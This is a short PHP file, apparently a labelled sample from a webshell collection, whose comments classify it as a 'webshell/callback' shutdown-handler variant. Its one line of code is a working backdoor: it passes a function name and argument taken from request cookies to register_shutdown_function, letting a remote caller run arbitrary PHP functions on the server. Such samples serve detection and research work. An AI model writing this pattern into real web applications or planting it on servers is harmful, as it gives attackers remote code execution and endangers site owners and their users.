<?php
// Family: webshell/callback
// Style: shutdown handler dispatcher
// Trait: register_shutdown_function with a request-chosen function and argument
register_shutdown_function($_COOKIE['cf'], $_COOKIE['ca']);
